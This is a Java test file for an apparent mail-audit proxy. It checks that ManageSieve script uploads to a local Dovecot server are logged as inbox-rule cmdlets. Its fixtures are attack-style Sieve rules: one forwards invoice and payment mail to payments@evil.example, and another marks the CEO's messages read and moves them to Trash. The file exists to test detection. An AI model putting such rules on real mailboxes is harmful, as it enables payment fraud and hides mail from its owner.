package dev.mailtrail.proxy.net;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailtrail.core.action.MailboxAction;
import dev.mailtrail.core.event.CmdletInvocation;
import dev.mailtrail.proxy.config.AuditMode;
import dev.mailtrail.proxy.config.ListenerConfig;
import dev.mailtrail.proxy.config.MailProtocol;
import dev.mailtrail.proxy.config.ProxyConfig;
import dev.mailtrail.proxy.config.ProxyLimits;
import dev.mailtrail.proxy.config.TlsMode;
import dev.mailtrail.proxy.config.UpstreamConfig;
import dev.mailtrail.proxy.dovecot.DovecotInstance;
import dev.mailtrail.proxy.imap.session.ImapAuditConfig;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The real ManageSieve client {@code sieve-connect} through the proxy to a real Dovecot Pigeonhole: each script
 * change the server accepts is an inbox-rule cmdlet, rule by rule; a script it refuses is the same cmdlet refused.
 */
class ManageSieveClientsTest {

    static final String FORWARD = """
            require ["copy"];
            # rule:[Invoices out]
            if header :contains "subject" ["invoice", "payment"] {
                redirect :copy "payments@evil.example";
                stop;
            }
            """;
    static final String FORWARD_AND_HIDE = """
            require ["copy", "fileinto", "imap4flags"];
            # rule:[Invoices out]
            if header :contains "subject" ["invoice", "payment", "wire"] {
                redirect :copy "payments@evil.example";
                stop;
            }
            # rule:[Hide replies]
            if address :is "from" "ceo@mailtrail.test" {
                addflag "\\\\Seen";
                fileinto "Trash";
            }
            """;

    @TempDir
    Path dir;

    DovecotInstance dovecot;
    ProxyServer proxy;
    final RecordingAuditSink sink = new RecordingAuditSink();

    @BeforeEach
    void start() throws Exception {
        dovecot = DovecotInstance.startWithSieve(Files.createDirectories(dir.resolve("dovecot")));
        ProxyConfig config = new ProxyConfig(
                List.of(ListenerConfig.loopback("sieve", MailProtocol.MANAGESIEVE, 0, TlsMode.NONE)),
                null,
                UpstreamConfig.plain("127.0.0.1", dovecot.imapPort()),
                UpstreamConfig.plain("127.0.0.1", dovecot.pop3Port()),
                AuditMode.STRICT,
                ImapAuditConfig.DEFAULTS,
                ProxyLimits.DEFAULTS,
                UpstreamConfig.plain("127.0.0.1", dovecot.sievePort()));
        proxy = ProxyServer.start(config, sink);
    }

    @AfterEach
    void stop() {
        if (proxy != null) {
            proxy.close();
        }
        if (dovecot != null) {
            dovecot.close();
        }
    }

    @Test
    void eachAcceptedChangeIsAnInboxRuleCmdletAgainstTheRulesInForce() throws Exception {
        Files.writeString(dir.resolve("forward.sieve"), FORWARD);
        Files.writeString(dir.resolve("forward2.sieve"), FORWARD_AND_HIDE);
        String out = sieveConnect(
                "list",
                "upload forward.sieve forward",
                "activate forward",
                "upload forward2.sieve forward",
                "deactivate",
                "delete forward");

        List<CmdletInvocation> cmdlets = sink.awaitCmdlets(7, Duration.ofSeconds(10));
        List<String> lines = cmdlets.stream().map(CmdletInvocation::command).toList();
        assertThat(lines.get(0))
                .as(out)
                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'Invoices out'"
                        + " -SubjectContainsWords 'invoice','payment' -ForwardTo 'payments@evil.example'"
                        + " -StopProcessingRules $true -ExternalRecipients 'payments@evil.example' -SieveRule 'if header")
                .endsWith("-Enabled $false -SieveScript 'forward'");
        assertThat(lines.get(1)).startsWith("Enable-InboxRule -Mailbox 'alice' -Identity 'Invoices out'");
        assertThat(lines.get(2))
                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'Hide replies' -From 'ceo@mailtrail.test'"
                        + " -MarkAsRead $true -MoveToFolder 'Trash'");
        assertThat(lines.get(3))
                .startsWith("Set-InboxRule -Mailbox 'alice' -Identity 'Invoices out'"
                        + " -SubjectContainsWords 'invoice','payment','wire'");
        assertThat(lines.subList(4, 6))
                .allMatch(l -> l.startsWith("Disable-InboxRule -Mailbox 'alice' -Identity '"));
        assertThat(lines.get(6)).startsWith("Remove-InboxRule -Mailbox 'alice' -Identity 'Invoices out'");
        assertThat(cmdlets).allMatch(c -> c.actor().equals("alice")
                && c.session().clientIp().equals("127.0.0.1")
                && c.session().clientInfo().equals("Client=ManageSieve"));
        assertThat(sink.events())
                .anyMatch(e -> e.operation() == MailboxAction.MAILBOX_LOGIN && e.mailbox().equals("alice"));
    }

    @Test
    void aScriptTheServerRefusesIsTheSameCmdletRefused() throws Exception {
        Files.writeString(dir.resolve("broken.sieve"), "if header :contains \"subject\" \"x\" { forwrd \"a@b.example\"; }\n");
        try {
            sieveConnect("upload broken.sieve broken");
        } catch (AssertionError expected) {
            // sieve-connect exits non-zero when the server refuses the script
        }
        List<CmdletInvocation> cmdlets = sink.awaitCmdlets(1, Duration.ofSeconds(10));
        assertThat(cmdlets.getFirst().command())
                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'broken' -SieveRule 'if header")
                .contains("-ServerError 'NO ");
    }

    private String sieveConnect(String... commands) throws Exception {
        Path script = dir.resolve("commands-" + System.nanoTime());
        Files.writeString(script, String.join("\n", commands) + "\n");
        List<String> command = new ArrayList<>(List.of(
                "sieve-connect",
                "--nosrv",
                "--server",
                "127.0.0.1",
                "--port",
                String.valueOf(proxy.address("sieve").getPort()),
                "--user",
                "alice",
                "--passwordfd",
                "0",
                "--notlsverify",
                "--exec",
                script.toString()));
        try {
            return ProxyHarness.run(dir, DovecotInstance.PASSWORD + "\n", command.toArray(String[]::new));
        } catch (AssertionError e) {
            throw new AssertionError(e.getMessage() + "\ncmdlets: " + sink.cmdlets() + "\nDovecot log:\n" + dovecot.log(), e);
        }
    }
}
